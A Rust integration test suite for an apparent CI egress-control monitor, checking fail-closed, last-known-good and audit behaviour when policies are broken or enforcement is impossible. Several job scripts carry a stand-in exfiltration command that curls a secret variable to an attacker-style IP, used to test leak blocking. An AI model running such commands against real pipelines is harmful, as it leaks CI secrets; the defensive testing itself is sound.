//! What a job gets when no policy can be had, or it can't be put in force: never a silent audit.

mod life;

use anyhow::{Context, Result, ensure};
use life::{
    BLOCK, EXFILTRATE, Gate, Puppet, assert_gapless, assert_nothing_left, call, our_tables,
    postures, shown,
};
use portcullis_common::event::PostureLevel;
use portcullis_tests::job::{Condition, Step, StepKind};
use portcullis_tests::world::MonitorOptions;
use portcullis_tests::{Job, JobOutcome, JobResult, StepOutcome, World, wait_until};
use std::fs::{self, Permissions};
use std::os::unix::fs::{PermissionsExt, chown};

const MODES: [&str; 3] = ["closed", "last-known-good", "audit"];

fn configuration(mode: &str) -> String {
    format!("[defaults]\non-failure = \"{mode}\"\n")
}

/// A job whose step always runs, whatever the started hook said: GitHub does not stop it.
fn job(gate: &Gate, script: &str) -> Job {
    let mut job = gate.job("echo $((6 * 7)) ordinary steps");
    job.steps.push(Step {
        run: script.to_owned(),
        condition: Some(Condition::Always),
        ..Step::default()
    });
    job
}

fn started_hook(result: &JobResult) -> Result<(Option<i32>, &str)> {
    let hook = result.step_of_kind(StepKind::StartedHook).context("no started hook")?;
    Ok((hook.exit_code, &hook.log))
}

fn is_ordinary_step_run(result: &JobResult) -> bool {
    result.log().contains("42 ordinary steps")
}

/// Ways in which the policy directory can't be used, as a shell script on `$P`, each with its undoing and a word of the
/// reason.
const BROKEN: [(&str, &str, &str); 7] = [
    ("echo 'egress-polcy: block' >$P/broken.yaml", "rm $P/broken.yaml", "broken.yaml"),
    ("printf '\\377\\376' >$P/broken.yaml", "rm $P/broken.yaml", "broken.yaml"),
    ("cp $P/block.yaml $P/twice.yaml", "rm $P/twice.yaml", "twice.yaml"),
    ("mkfifo $P/pipe.yaml", "rm $P/pipe.yaml", "pipe.yaml"),
    ("mv $P $P.away", "mv $P.away $P", "can't be"),
    ("chmod 0777 $P", "chmod 0755 $P", "0777"),
    ("chmod 0666 $P/block.yaml", "chmod 0644 $P/block.yaml", "0666"),
];

/// S4: the store can't say which policy applies.
#[test]
fn a_store_that_cant_be_read_never_means_a_silent_audit() -> Result<()> {
    for mode in MODES {
        let world = World::builder().build()?;
        world.write_configuration(&configuration(mode))?;
        let gate = Gate::up(world, &[("block", BLOCK)])?;
        let shell = |script: &str| {
            let policies = gate.world.policies();
            gate.world.command("sh").args(["-ec", script]).env("P", policies).text()
        };
        // A job that goes well, so that there is a last known good policy.
        let good = gate.run(&job(&gate, &call("ok.test")))?;
        assert_eq!(good.outcome, JobOutcome::Success, "{}", good.log());
        let script = format!("{EXFILTRATE}\n{} && echo reached", call("ok.test"));
        for (breaking, mending, reason) in BROKEN {
            shell(breaking)?;
            let result = gate.run(&job(&gate, &script))?;
            shell(mending)?;
            let (exit, log) = started_hook(&result)?;
            let context =
                || format!("{mode}, {breaking}:\n{}\n{}", result.log(), gate.monitor.log());
            ensure!(log.contains(reason), "{}", context());
            ensure!(shown(&result.summary()).contains(reason), "{}", context());
            let events = gate.last_events()?;
            assert_gapless(&events);
            let told = postures(&events)
                .any(|event| event.posture.warnings.iter().any(|warning| warning.contains(reason)));
            ensure!(told, "{}\n{events:#?}", context());
            let report = gate.last_report()?;
            let reached = result.log().contains("\nreached");
            match mode {
                "closed" => {
                    ensure!(exit == Some(2), "{}", context());
                    ensure!(!is_ordinary_step_run(&result) && !reached, "{}", context());
                    ensure!(log.contains("::error") || log.contains("closed"), "{}", context());
                    ensure!(report.policy.name == "closed", "{report:#?}");
                }
                "last-known-good" => {
                    ensure!(exit == Some(0) && reached, "{}", context());
                    ensure!(report.policy.name == "hello-block", "{report:#?}");
                    ensure!(log.contains("last known good"), "{}", context());
                }
                _ => {
                    ensure!(exit == Some(0) && reached, "{}", context());
                    ensure!(report.posture.level == PostureLevel::AuditFallback, "{report:#?}");
                    ensure!(report.would_block > 0, "{report:#?}");
                    ensure!(result.summary().contains("[!CAUTION]"), "{}", context());
                    ensure!(
                        result.annotations.iter().any(|annotation| annotation.level == "error"),
                        "{}",
                        context()
                    );
                }
            }
            let leaked = gate.world.attacker().saw(&gate.canary)?;
            ensure!(mode == "audit" || !leaked, "{}", context());
            assert_nothing_left(&gate.world)?;
        }
        // The twin: once all is well again, so is the next job.
        let good = gate.run(&job(&gate, &call("ok.test")))?;
        assert_eq!(started_hook(&good)?.0, Some(0), "{}", good.log());
        assert_eq!(gate.last_report()?.posture.level, PostureLevel::Enforced);
        assert!(!good.summary().contains("[!CAUTION]"));
        // A workflow that never had a policy gets none in this mode either.
        if mode == "last-known-good" {
            shell(BROKEN[0].0)?;
            let unknown =
                gate.run(&job(&gate, EXFILTRATE).workflow_file(".github/workflows/new.yml"))?;
            assert_eq!(started_hook(&unknown)?.0, Some(2), "{}", unknown.log());
            assert!(!gate.world.attacker().saw(&gate.canary)?);
        }
    }
    Ok(())
}

/// Ways in which the rules can't be put in force, as (monitor's wrapper, a word of the reason).
fn unenforceable(mode: &str) -> Result<()> {
    let world = World::builder().build()?;
    // No server in the Worker's resolv.conf, and none configured.
    world.write_configuration(&configuration(mode))?;
    let gate = Gate::up(world, &[("block", BLOCK)])?;
    let resolv = gate.world.directory().join("etc/resolv.conf");
    let servers = fs::read_to_string(&resolv)?;
    fs::write(&resolv, "# nobody\n")?;
    let result =
        gate.run(&job(&gate, "curl -sSk --max-time 3 https://203.0.113.66/$S; echo after"))?;
    let context = || format!("{mode}:\n{:#?}\n{}", result, gate.monitor.log());
    let reason = "DNS server";
    assert_nothing_left(&gate.world).with_context(context)?;
    let events = gate.last_events()?;
    assert_gapless(&events);
    let told = postures(&events).any(|event| {
        event.posture.level == PostureLevel::Unenforced && event.reason.contains(reason)
    });
    ensure!(told, "{}\n{events:#?}", context());
    wait_until("the report", || gate.last_report().is_ok())?;
    let report = gate.last_report()?;
    ensure!(report.posture.level == PostureLevel::Unenforced, "{report:#?}");
    if mode == "audit" {
        ensure!(result.outcome == JobOutcome::Success, "{}", context());
        ensure!(started_hook(&result)?.1.contains(reason), "{}", context());
        ensure!(result.summary().contains("[!CAUTION]"), "{}", context());
        ensure!(shown(&result.summary()).contains(reason), "{}", context());
        ensure!(gate.world.attacker().saw(&gate.canary)?, "nothing was in force: {}", context());
    } else {
        // Killed, with the reason as the job's annotation.
        ensure!(result.outcome == JobOutcome::Failure, "{}", context());
        ensure!(result.worker_exit_code == 137, "{}", context());
        ensure!(result.annotations.len() == 1, "{}", context());
        let message = &result.annotations[0].message;
        ensure!(message.contains(reason) && message.contains(mode), "{message}");
        ensure!(!result.log().contains("after"), "{}", context());
        gate.assert_contained(&result)?;
    }
    // The twin: the same runner, once there is a server again.
    fs::write(&resolv, servers)?;
    let good = gate.run(&job(&gate, &call("ok.test")))?;
    ensure!(good.outcome == JobOutcome::Success, "{}", good.log());
    assert_nothing_left(&gate.world)
}

#[test]
fn without_a_dns_server_closed_kills_the_worker_and_says_why() -> Result<()> {
    unenforceable("closed")
}

#[test]
fn without_a_dns_server_last_known_good_is_closed() -> Result<()> {
    unenforceable("last-known-good")
}

#[test]
fn without_a_dns_server_audit_is_told_everywhere() -> Result<()> {
    unenforceable("audit")
}

/// Without cgroup v2 a lone runner's job is enforced, with the weakness named; two runners of one user can't be told
/// apart, and are refused.
#[test]
fn without_cgroup_v2_the_weakness_is_named() -> Result<()> {
    let world = World::builder().runners(2).same_user().build()?;
    world.write_configuration(&configuration("closed"))?;
    world.write_policy("block", BLOCK)?;
    world.install_hooks()?;
    // The monitor in a mount namespace without the hierarchy.
    let real = world.install_program("monitor")?;
    let kept = real.with_file_name("monitor.real");
    fs::rename(&real, &kept)?;
    let wrapper = format!(
        "#!/bin/bash\nexec unshare --mount bash -c 'for m in $(findmnt -n -l -t cgroup2 -o TARGET); do umount -l \"$m\" || exit 9; done; exec {} \"$@\"' monitor \"$@\"\n",
        kept.display()
    );
    let wrapped = real.with_file_name("monitor.sh");
    fs::write(&wrapped, wrapper)?;
    fs::set_permissions(&wrapped, Permissions::from_mode(0o755))?;
    let canary = portcullis_tests::Canary::generate()?;
    let log = fs::File::create(world.directory().join("monitor.log"))?;
    let mut monitor = world.command(&wrapped).arg("--root").arg(world.root()).arg("serve").spawn(
        std::process::Stdio::null(),
        log.try_clone()?,
        log,
    )?;
    let log = || fs::read_to_string(world.directory().join("monitor.log")).unwrap_or_default();
    wait_until("the monitor to listen", || {
        std::os::unix::net::UnixStream::connect(world.socket()).is_ok()
    })
    .with_context(log)?;

    let alone = world.runner(0).run(
        &Job::script(&format!("{EXFILTRATE}\n{}", call("ok.test"))).secret("S", canary.as_str()),
    )?;
    ensure!(alone.outcome == JobOutcome::Success, "{}\n{}", alone.log(), log());
    world.attacker().assert_untouched(&canary)?;
    let (_, hook) = started_hook(&alone)?;
    ensure!(hook.contains("posture degraded") && hook.contains("cgroup"), "{hook}");
    ensure!(shown(&alone.summary()).contains("cgroup v2"), "{}", alone.summary());
    wait_until("the rules to be gone", || our_tables(&world).is_ok_and(|left| left.is_empty()))?;

    world.runner(1).start()?;
    let refused = world.runner(0).run(&Job::script("true"))?;
    ensure!(refused.outcome == JobOutcome::Failure, "{}", refused.log());
    let message = &refused.annotations.first().context("no annotation")?.message;
    ensure!(message.contains("cgroup or a user of its own"), "{message}");
    ensure!(monitor.is_running(), "{}", log());
    Ok(())
}

/// A table that stands where the job's should is an error, and stays; a monitor that can't write its state is one too.
#[test]
fn what_is_in_the_way_is_told() -> Result<()> {
    let world = World::builder().build()?;
    world.write_configuration(&configuration("closed"))?;
    let gate = Gate::up(world, &[("block", BLOCK)])?;
    // Nothing can be written where running jobs are kept.
    let jobs = gate.world.root().join("run/portcullis/jobs");
    fs::remove_dir(&jobs)?;
    fs::write(&jobs, "in the way")?;
    let result =
        gate.run(&job(&gate, "curl -sSk --max-time 3 https://203.0.113.66/$S; echo after"))?;
    let message = &result.annotations.first().context("no annotation")?.message;
    ensure!(message.contains("state can't be written"), "{message}");
    assert_eq!(result.worker_exit_code, 137);
    gate.assert_contained(&result)?;
    // The runner sees its Worker's end a moment before the monitor has removed the rest.
    wait_until("rules and groups to be gone", || {
        our_tables(&gate.world).is_ok_and(|tables| tables.is_empty())
            && life::job_groups(gate.world.runner(0)).is_empty()
    })?;
    fs::remove_file(&jobs)?;
    let good = gate.run(&job(&gate, &call("ok.test")))?;
    ensure!(good.outcome == JobOutcome::Success, "{}\n{}", good.log(), gate.monitor.log());
    assert_nothing_left(&gate.world)
}

/// A directory of policies that belongs to the runner's user is no policy; the configuration neither.
#[test]
fn what_the_runners_user_can_change_is_not_obeyed() -> Result<()> {
    let world = World::builder().build()?;
    let gate = Gate::up(world, &[("block", BLOCK)])?;
    let uid = gate.world.runner(0).uid();
    let file = gate.world.policies().join("block.yaml");
    chown(&file, Some(uid), Some(uid))?;
    let result = gate.run(&job(&gate, EXFILTRATE))?;
    let (exit, log) = started_hook(&result)?;
    assert_eq!(exit, Some(2), "{log}");
    ensure!(log.contains(&format!("belongs to the user {uid}")), "{log}");
    gate.assert_contained(&result)?;

    let configuration = gate.world.root().join("etc/portcullis/monitor.toml");
    fs::write(&configuration, "")?;
    chown(&configuration, Some(uid), Some(uid))?;
    drop(gate.monitor);
    let error = gate.world.monitor(MonitorOptions::default()).err().context("it was obeyed")?;
    ensure!(format!("{error:#}").contains("can be changed by others than root"), "{error:#}");
    Ok(())
}

/// The policy's own failure mode counts more than the host's; and `fail-on-block`, and audit, and nothing attached.
#[test]
fn what_the_policy_says_of_the_job_counts() -> Result<()> {
    let strict = "name: strict\negress-policy: block\nfail-on-block: true\nallowed-endpoints: ['ok.test:443']\nattach: [{repository: octo/strict}]\n";
    let audit = "name: watched\negress-policy: audit\nallowed-endpoints: ['ok.test:443']\nattach: [{repository: octo/watched}]\n";
    let gate = Gate::up(World::builder().build()?, &[("strict", strict), ("watched", audit)])?;

    let calm = gate.run(&gate.job(&call("ok.test")).repository("octo/strict"))?;
    assert_eq!(calm.outcome, JobOutcome::Success, "{}", calm.log());
    let blocked = gate.run(
        &gate.job("curl -sSk --max-time 3 https://203.0.113.66/$S; true").repository("octo/strict"),
    )?;
    assert_eq!(blocked.outcome, JobOutcome::Failure, "{}", blocked.log());
    let hook = blocked.step_of_kind(StepKind::CompletedHook).context("no completed hook")?;
    assert_eq!((hook.exit_code, hook.outcome), (Some(1), StepOutcome::Failure), "{}", hook.log);
    assert!(blocked.summary().contains("says that this job fails"), "{}", blocked.summary());
    gate.assert_contained(&blocked)?;

    let mut puppet = Puppet::start(&gate, 0, "octo/watched")?;
    let called = puppet.run(&format!(
        "{} && {} && curl -sSk --max-time 10 https://203.0.113.66/",
        call("ok.test"),
        call("other.test")
    ))?;
    ensure!(called.succeeded(), "{called:?}");
    let watched = puppet.finish()?;
    assert_eq!(watched.outcome, JobOutcome::Success, "{}", watched.log());
    gate.monitor.wait_until_idle()?;
    let report = gate.last_report()?;
    assert!(report.would_block >= 2 && report.blocked == 0 && report.allowed > 0, "{report:#?}");
    assert_eq!(report.posture.level, PostureLevel::Audit);
    assert!(watched.summary().contains("Would be blocked"), "{}", watched.summary());

    // Nothing is attached to this one: audit, and said so.
    let unattached = gate.run(&gate.job(&call("other.test")).repository("octo/nobody"))?;
    assert_eq!(unattached.outcome, JobOutcome::Success, "{}", unattached.log());
    let report = gate.last_report()?;
    assert_eq!(report.posture.level, PostureLevel::Audit);
    assert!(report.would_block > 0, "{report:#?}");
    let (_, hook) = started_hook(&unattached)?;
    assert!(hook.contains("mode audit") && hook.contains("default"), "{hook}");
    let said = |text: &str| text.contains("no policy is attached");
    assert!(report.posture.warnings.iter().any(|warning| said(warning)), "{:#?}", report.posture);
    assert!(said(hook) && said(&shown(&unattached.summary())), "{}", unattached.log());
    assert_nothing_left(&gate.world)
}
